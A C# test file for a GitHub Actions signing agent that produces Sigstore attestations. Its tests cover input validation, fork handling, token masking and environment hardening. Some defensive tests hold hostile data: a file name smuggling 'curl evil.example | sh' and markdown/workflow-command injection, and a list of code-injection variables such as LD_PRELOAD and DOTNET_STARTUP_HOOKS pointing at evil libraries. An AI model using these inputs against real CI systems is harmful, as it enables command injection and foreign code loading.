using System.Text;
using SigningAction.Agent.Pipelines.GitHubActions;
using SigningAction.Agent.Tests.Fakes;
using SigningAction.Agent.Tests.Pipelines;
using SigningAction.Evidence.Bundles;
using SigningAction.Evidence.Verification;
using SigningAction.Testing;

namespace SigningAction.Agent.Tests.Commands;

/// <summary>The step as the runner starts it: inputs in variables with hyphens, outputs and summary in files.</summary>
public sealed class ActionTests : IDisposable
{
    private const string GitHubToken = "ghs_canary0123456789canary0123456789";
    private static readonly VerificationPolicy Policy = new() { Issuer = "https://token.example", Identity = "https://github.com/octo/app/.github/workflows/release.yml@refs/heads/main" };

    private readonly SmallSigstore _sigstore = new(TimeProvider.System);
    private readonly TestPlace _place;

    public ActionTests()
    {
        _place = new TestPlace { Network = _sigstore }.AsGitHubJob(SmallSigstore.TokenUrl);
        _place.Variables["GITHUB_WORKSPACE"] = _place.Directory_;
        foreach (var input in ActionInputs.All)
        {
            // As the runner does it: every input is there, empty where neither the workflow nor action.yml gives a value.
            _place.Variables[input.Variable] = input.Default;
        }

        Set(ActionInputs.GitHubToken, GitHubToken);
        Set(ActionInputs.Authority, SmallSigstore.Url);
    }

    [Fact]
    public async Task A_step_attests_and_gives_paths_that_hold_outside_its_container()
    {
        _place.Write("dist/a.zip", "a");
        _place.Write("dist/b.zip", "b");
        Set(ActionInputs.SubjectPath, "dist/a.zip\ndist/b*");
        await RunAsync(AgentFaults.Success);
        var outputs = Outputs();
        var path = outputs[ActionOutputs.BundlePath];
        Assert.StartsWith("attestations/attestation-", path, StringComparison.Ordinal);
        Assert.Equal(path, outputs[ActionOutputs.BundlePaths]);
        Assert.Equal(Policy.Identity, outputs[ActionOutputs.CertificateIdentity]);
        Assert.Equal("5", outputs[ActionOutputs.LogIndex]);
        Assert.Equal(["a.zip", "b.zip"], Verify(path, "b").Statement!.Subjects.Select(s => s.Name));
    }

    [Fact]
    public async Task Sign_makes_a_signature_a_file_beside_the_attestation_with_the_same_certificate()
    {
        _place.Write("dist/a.zip", "a");
        Set(ActionInputs.SubjectPath, "dist/a.zip");
        Set(ActionInputs.Sign, "True");
        _place.Variables["RUNNER_TEMP"] = Directory.CreateDirectory(_place.PathOf("temp")).FullName;
        await RunAsync(AgentFaults.Success);
        Assert.Equal("attestations/a.zip.provenance.sigstore.json\n", File.ReadAllText(_place.PathOf("temp/created_attestation_paths.txt")));
        Assert.NotNull(Verify("attestations/a.zip.provenance.sigstore.json", "a").Statement);
        Assert.Null(Verify("attestations/dist/a.zip.sigstore.json", "a").Statement);
        Assert.Single(_sigstore.Asked, "/api/v2/signingCert");
        Assert.Equal(2, Outputs()[ActionOutputs.BundlePaths].Split('\n').Length);
    }

    [Fact]
    public async Task A_forks_pull_request_is_skipped_with_a_notice_and_nothing_is_asked_for()
    {
        AsPullRequest(from: 2);
        _place.Write("a.zip", "a");
        Set(ActionInputs.SubjectPath, "a.zip");
        await RunAsync(AgentFaults.Success);
        Assert.Contains("::notice title=signing-agent%3A nothing was signed::", _place.Error.ToString(), StringComparison.Ordinal);
        Assert.Contains("Nothing was signed", File.ReadAllText(_place.PathOf(".summary")), StringComparison.Ordinal);
        Assert.Empty(_sigstore.Asked);
        Assert.False(File.Exists(_place.PathOf(".output")));
    }

    [Fact]
    public async Task A_forks_pull_request_fails_where_that_is_wanted()
    {
        AsPullRequest(from: 2);
        _place.Write("a.zip", "a");
        Set(ActionInputs.SubjectPath, "a.zip");
        Set(ActionInputs.OnFork, "fail");
        await RunAsync(AgentFaults.Refused);
        Assert.Contains("NO_IDENTITY", _place.Error.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_job_that_forgot_its_permission_fails_whatever_a_fork_may_do()
    {
        AsPullRequest(from: 1);
        _place.Write("a.zip", "a");
        Set(ActionInputs.SubjectPath, "a.zip");
        await RunAsync(AgentFaults.Refused);
        Assert.Contains("permissions: id-token: write", _place.Error.ToString(), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("sign", "yes", "write true or false")]
    [InlineData("show-summary", "1", "write true or false")]
    [InlineData("on-fork", "ignore", "write skip or fail")]
    [InlineData("wait", "10", "with s, m or h")]
    [InlineData("wait", "-1m", "with s, m or h")]
    [InlineData("wait", "m", "with s, m or h")]
    [InlineData("wait", "0m", "wait must be")]
    [InlineData("wait", "99999999999h", "with s, m or h")]
    [InlineData("predicate", "{}", "without predicate-type")]
    public async Task An_input_that_means_nothing_is_a_usage_error_that_says_what_to_write(string input, string value, string sentence)
    {
        _place.Write("a.zip", "a");
        Set(ActionInputs.SubjectPath, "a.zip");
        _place.Variables["INPUT_" + input.ToUpperInvariant()] = value;
        await RunAsync(AgentFaults.Usage);
        Assert.Contains(sentence, _place.Error.ToString(), StringComparison.Ordinal);
        Assert.Empty(_sigstore.Asked);
    }

    [Fact]
    public async Task An_input_with_underscores_is_a_misspelling_and_not_silence()
    {
        _place.Write("a.zip", "a");
        Set(ActionInputs.SubjectPath, "a.zip");
        _place.Variables["INPUT_SBOM_PATH"] = "sbom.json";
        await RunAsync(AgentFaults.Usage);
        Assert.Contains("write 'sbom-path'", _place.Error.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_misspelt_input_is_refused_and_the_message_lists_the_inputs()
    {
        _place.Write("a.zip", "a");
        Set(ActionInputs.SubjectPath, "a.zip");
        _place.Variables["INPUT_RELASE"] = "v1";
        await RunAsync(AgentFaults.Usage);
        Assert.Contains("no input 'relase' (the variable INPUT_RELASE, from 'with' or from an 'env' of the workflow): the inputs are subject-path, ", _place.Error.ToString(), StringComparison.Ordinal);
    }

    /// <summary>B2 of what people do wrong: told before a token is asked for, with the name of the input and the directory as the annotation's file.</summary>
    [Fact]
    public async Task A_bundle_dir_that_cannot_be_written_is_told_before_anything_is_asked_for()
    {
        _place.Write("a.zip", "a");
        _place.Write("taken", "a file");
        Set(ActionInputs.SubjectPath, "a.zip");
        foreach (var directory in new[] { "taken", "taken/below", "a.zip" })
        {
            Set(ActionInputs.BundleDirectory, directory);
            await RunAsync(AgentFaults.CouldNot);
            Assert.Contains($"::error file={directory},title=signing-agent%3A CANNOT_WRITE::The directory for the bundles", _place.Error.ToString(), StringComparison.Ordinal);
        }

        Assert.Contains("Name a directory as bundle-dir", _place.Error.ToString(), StringComparison.Ordinal);
        Assert.Empty(_sigstore.Asked);
    }

    [Fact]
    public async Task A_directory_without_the_right_to_write_is_told_the_same_way()
    {
        Assert.SkipWhen(OperatingSystem.IsWindows() || Environment.IsPrivilegedProcess, "Root may write everywhere.");
        _place.Write("a.zip", "a");
        Set(ActionInputs.SubjectPath, "a.zip");
        Directory.CreateDirectory(_place.PathOf("closed"), UnixFileMode.UserRead | UnixFileMode.UserExecute);
        Set(ActionInputs.BundleDirectory, "closed/below");
        await RunAsync(AgentFaults.CouldNot);
        Assert.Contains("CANNOT_WRITE", _place.Error.ToString(), StringComparison.Ordinal);
        Assert.Empty(_sigstore.Asked);
    }

    [Fact]
    public async Task A_run_that_signs_nothing_leaves_no_directory_behind()
    {
        _place.Write("a.zip", "a");
        Set(ActionInputs.SubjectPath, "a.zip");
        Set(ActionInputs.DryRun, "true");
        await RunAsync(AgentFaults.Success);
        Assert.Equal(["a.zip"], Directory.GetFileSystemEntries(_place.Directory_).Select(Path.GetFileName).Where(name => name != ".summary"));
    }

    [Theory]
    [InlineData("subject-checksums", "sums.txt", "zz  x", 1)]
    [InlineData("predicate-path", "p.json", "{\n \"a\": 1,\n}", 3)]
    [InlineData("sbom-path", "sbom.json", "{\n oops", 2)]
    public async Task What_is_wrong_in_a_line_of_a_file_is_an_annotation_of_that_line(string input, string file, string content, int line)
    {
        _place.Write("a.zip", "a");
        _place.Write(file, content);
        Set(ActionInputs.SubjectPath, input == "subject-checksums" ? "" : "a.zip");
        Set(ActionInputs.PredicateType, input == "predicate-path" ? "https://example.com/p" : "");
        _place.Variables["INPUT_" + input.ToUpperInvariant()] = file;
        await RunAsync(AgentFaults.Usage);
        Assert.Contains($"::error file={file},line={line},title=signing-agent%3A USAGE::", _place.Error.ToString(), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("subject-checksums")]
    [InlineData("sbom-path")]
    [InlineData("predicate-path")]
    [InlineData("trusted-root")]
    [InlineData("signing-config")]
    [InlineData("tuf-root")]
    public async Task A_file_that_is_named_and_is_not_there_is_a_usage_error_before_anything_is_asked_for(string input)
    {
        _place.Write("a.zip", "a");
        Set(ActionInputs.SubjectPath, input == "subject-checksums" ? "" : "a.zip");
        Set(ActionInputs.PredicateType, input == "predicate-path" ? "https://example.com/p" : "");
        Set(ActionInputs.TufUrl, input == "tuf-root" ? "https://tuf.test" : "");
        _place.Variables["INPUT_" + input.ToUpperInvariant()] = "missing.json";
        await RunAsync(AgentFaults.Usage);
        Assert.Contains("USAGE::'missing.json' cannot be read: there is no such file. Check the path", _place.Error.ToString(), StringComparison.Ordinal);
        Assert.Empty(_sigstore.Asked);
    }

    /// <summary>Hashing may take minutes, and what is said of the services is known at once.</summary>
    [Theory]
    [InlineData("authority", "publicgood", "authority is none of what it may be: the https URL of a signing authority")]
    [InlineData("authority", "signing.example.com", "public-good, or github")]
    [InlineData("authority", "http://signing.example.com", "public-good, or github")]
    [InlineData("trusted-root", "missing.json", "there is no such file")]
    [InlineData("trusted-root", "bad.json", "is not usable")]
    [InlineData("signing-config", "bad.json", "is not usable")]
    public async Task What_is_wrong_with_the_services_is_told_before_a_file_is_looked_for(string input, string value, string sentence)
    {
        _place.Write("bad.json", "[]");
        Set(ActionInputs.SubjectPath, "nothing-has-this-name.zip");
        _place.Variables["INPUT_" + input.ToUpperInvariant()] = value;
        await RunAsync(AgentFaults.Usage);
        Assert.Contains(sentence, _place.Error.ToString(), StringComparison.Ordinal);
        Assert.DoesNotContain("NO_MATCH", _place.Error.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_runners_own_inputs_of_a_container_step_are_no_misspelling()
    {
        _place.Write("a.zip", "a");
        Set(ActionInputs.SubjectPath, "a.zip");
        _place.Variables["INPUT_ENTRYPOINT"] = _place.Variables["INPUT_ARGS"] = "";
        await RunAsync(AgentFaults.Success);
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task A_variable_of_the_other_kind_of_step_is_no_input(bool native)
    {
        _place.Write("a.zip", "a");
        Set(ActionInputs.SubjectPath, "a.zip");
        foreach (var input in ActionInputs.All.Where(_ => native))
        {
            _place.Variables[input.ShellVariable] = _place.Variables[input.Variable];
        }

        // What an earlier step wrote to GITHUB_ENV, or the job has in its env.
        _place.Variables[native ? ActionInputs.Authority.Variable : ActionInputs.Authority.ShellVariable] = "https://evil.test";
        _place.Variables[native ? ActionInputs.DryRun.Variable : ActionInputs.DryRun.ShellVariable] = "true";
        await RunAsync(AgentFaults.Success, native ? ["action", "--native"] : ["action"]);
        Assert.Contains("/api/v2/signingCert", _sigstore.Asked);
        Assert.DoesNotContain("evil.test", _place.Printed, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_summary_that_cannot_be_written_fails_no_step_that_has_nothing_to_do()
    {
        AsPullRequest(from: 2);
        _place.Write("a.zip", "a");
        Set(ActionInputs.SubjectPath, "a.zip");
        _place.Variables["GITHUB_STEP_SUMMARY"] = _place.Directory_;
        await RunAsync(AgentFaults.Success);
        Assert.Contains("::notice title=signing-agent%3A nothing was signed::", _place.Error.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_token_of_the_API_is_masked_first_and_never_printed()
    {
        Set(ActionInputs.SubjectPath, GitHubToken);
        await RunAsync(AgentFaults.Usage);
        var lines = _place.Error.ToString().Split('\n');
        Assert.Equal($"::add-mask::{GitHubToken}", lines[0]);
        Assert.DoesNotContain(lines[1..], line => line.Contains("ghs_canary", StringComparison.Ordinal));
        Assert.Contains(lines, line => line.Contains("NO_MATCH", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_hostile_name_is_a_name_in_log_outputs_summary_and_command()
    {
        const string Name = "a'; curl evil.example | sh #[x](javascript:1)<b>::set-output name=x::.zip";
        _place.Write(Name.Replace("/", "", StringComparison.Ordinal), "a");
        Set(ActionInputs.SubjectPath, "*.zip");
        Set(ActionInputs.Sign, "true");
        await RunAsync(AgentFaults.Success);
        var summary = File.ReadAllText(_place.PathOf(".summary"));
        Assert.DoesNotContain("[x]", summary, StringComparison.Ordinal);
        Assert.DoesNotContain("<b>", summary, StringComparison.Ordinal);
        Assert.DoesNotContain("javascript:", summary, StringComparison.Ordinal);
        var shown = System.Net.WebUtility.HtmlDecode(summary);
        Assert.Contains(@"signing-verifier verify 'a'\''; curl evil.example | sh #[x](javascript:1)<b>::set-output name=x::.zip' --bundle", shown, StringComparison.Ordinal);
        Assert.Contains("cosign verify-blob-attestation", shown, StringComparison.Ordinal);
        Assert.Contains("gh attestation verify", shown, StringComparison.Ordinal);
        Assert.DoesNotContain(_place.Error.ToString().Split('\n'), line => line.StartsWith("::set-output", StringComparison.Ordinal));
    }

    [Fact]
    public async Task No_summary_is_written_where_none_is_wanted()
    {
        _place.Write("a.zip", "a");
        Set(ActionInputs.SubjectPath, "a.zip");
        Set(ActionInputs.ShowSummary, "false");
        await RunAsync(AgentFaults.Success);
        Assert.False(File.Exists(_place.PathOf(".summary")));
    }

    [Theory]
    [InlineData("DOTNET_STARTUP_HOOKS", "/tmp/evil.dll")]
    [InlineData("DOTNET_ADDITIONAL_DEPS", "/tmp/x.deps.json")]
    [InlineData("CORECLR_PROFILER", "{1}")]
    [InlineData("CORECLR_ENABLE_PROFILING", "1")]
    [InlineData("LD_PRELOAD", "/tmp/evil.so")]
    [InlineData("OPENSSL_CONF", "/tmp/evil.cnf")]
    [InlineData("DOTNET_DbgEnableMiniDump", "1")]
    [InlineData("COMPlus_GCName", "evil.so")]
    [InlineData("DOTNET_GCPath", "/tmp/evil.so")]
    [InlineData("DOTNET_SYSTEM_GLOBALIZATION_APPLOCALICU", "evil")]
    [InlineData("CORECLR_NOTIFICATION_PROFILERS", "/tmp/evil.so={1}")]
    [InlineData("DOTNET_EnableEventPipe", "1")]
    public async Task A_variable_that_brings_code_of_others_into_the_process_stops_it_before_anything_is_read(string name, string value)
    {
        _place.Write("a.zip", "a");
        Set(ActionInputs.SubjectPath, "a.zip");
        _place.Variables[name] = value;
        await RunAsync(AgentFaults.Refused);
        Assert.Contains("FOREIGN_CODE", _place.Error.ToString(), StringComparison.Ordinal);
        Assert.Contains(name, _place.Error.ToString(), StringComparison.Ordinal);
        Assert.DoesNotContain("evil", _place.Printed, StringComparison.Ordinal);
        Assert.Empty(_sigstore.Asked);
    }

    /// <summary>R-09.</summary>
    [Theory]
    [InlineData("v1", true)]
    [InlineData("main", true)]
    [InlineData("0123456789abcdef0123456789abcdef0123456", true)]
    [InlineData("0123456789abcdef0123456789abcdef01234567", false)]
    [InlineData("", false)]
    public async Task An_action_that_is_used_by_a_name_that_can_be_moved_says_so(string reference, bool told)
    {
        _place.Write("a.zip", "a");
        Set(ActionInputs.SubjectPath, "a.zip");
        _place.Variables["GITHUB_ACTION_REF"] = reference;
        _place.Variables["GITHUB_ACTION_REPOSITORY"] = "octo/signing";
        await RunAsync(AgentFaults.Success);
        Assert.Equal(told, _place.Error.ToString().Contains($"by the name '{reference}', which can be moved to other code: pin a release by its commit, `uses: octo/signing@COMMIT`", StringComparison.Ordinal));
    }

    [Fact]
    public async Task What_only_moves_trust_or_traffic_is_followed_and_named()
    {
        _place.Write("a.zip", "a");
        Set(ActionInputs.SubjectPath, "a.zip");
        _place.Variables["SSL_CERT_FILE"] = "/etc/ca.pem";
        _place.Variables["HTTPS_PROXY"] = "http://user:secret@proxy";
        await RunAsync(AgentFaults.Success);
        Assert.Contains("Set by the environment, and followed: SSL_CERT_FILE, HTTPS_PROXY.", _place.Error.ToString(), StringComparison.Ordinal);
        Assert.DoesNotContain("user:secret", _place.Printed, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Two_steps_on_one_workspace_have_files_of_their_own()
    {
        _place.Write("a.zip", "a");
        _place.Write("b.zip", "b");
        _place.Write("sbom.json", """{"bomFormat":"CycloneDX","specVersion":"1.6"}""");
        Set(ActionInputs.SubjectPath, "a.zip");
        await RunAsync(AgentFaults.Success);
        Set(ActionInputs.SbomPath, "sbom.json");
        await RunAsync(AgentFaults.Success);
        Set(ActionInputs.SubjectPath, "b.zip");
        await RunAsync(AgentFaults.Success);
        Assert.Equal(
            ["a.zip.cyclonedx.sigstore.json", "a.zip.provenance.sigstore.json", "b.zip.cyclonedx.sigstore.json"],
            Directory.GetFiles(_place.PathOf("attestations")).Select(Path.GetFileName).Order(StringComparer.Ordinal));
    }

    [Fact]
    public void Every_input_has_a_name_of_its_own_with_the_variable_that_the_runner_sets()
    {
        Assert.Equal(ActionInputs.All.Count, ActionInputs.All.Select(i => i.Variable).Distinct(StringComparer.Ordinal).Count());
        Assert.Equal("INPUT_SUBJECT-PATH", ActionInputs.SubjectPath.Variable);
        Assert.Equal(
            typeof(ActionInputs).GetFields().Length, ActionInputs.All.Count);
        Assert.Equal(typeof(ActionOutputs).GetFields().Length, ActionOutputs.All.Count);
    }

    public void Dispose()
    {
        _place.Dispose();
        _sigstore.Dispose();
    }

    private void Set(ActionInput input, string value) => _place.Variables[input.Variable] = value;

    /// <summary>A pull request into repository 1, in a job without identity.</summary>
    private void AsPullRequest(int from)
    {
        _place.Variables.Remove("ACTIONS_ID_TOKEN_REQUEST_URL");
        _place.Variables["GITHUB_EVENT_PATH"] = _place.Write("event.json", $$"""{"repository":{"id":1},"pull_request":{"head":{"repo":{"id":{{from}} } } } }""");
    }

    private async Task RunAsync(int expected, params string[] line)
    {
        var code = await SigningAgent.RunAsync(line is [] ? ["action"] : line, _place.Environment, TestContext.Current.CancellationToken);
        Assert.True(code == expected, $"{code}: {_place.Printed}");
    }

    private Dictionary<string, string> Outputs() =>
        OutputFileTests.Parse(File.ReadAllText(_place.PathOf(".output"))).ToDictionary(o => o.Item1, o => o.Item2, StringComparer.Ordinal);

    private VerifiedBundle Verify(string bundle, string content) =>
        new Verifier(_sigstore.Root).Verify(Bundle.Parse(File.ReadAllBytes(_place.PathOf(bundle))), Artifact.OfBytes(Encoding.UTF8.GetBytes(content)), Policy);
}
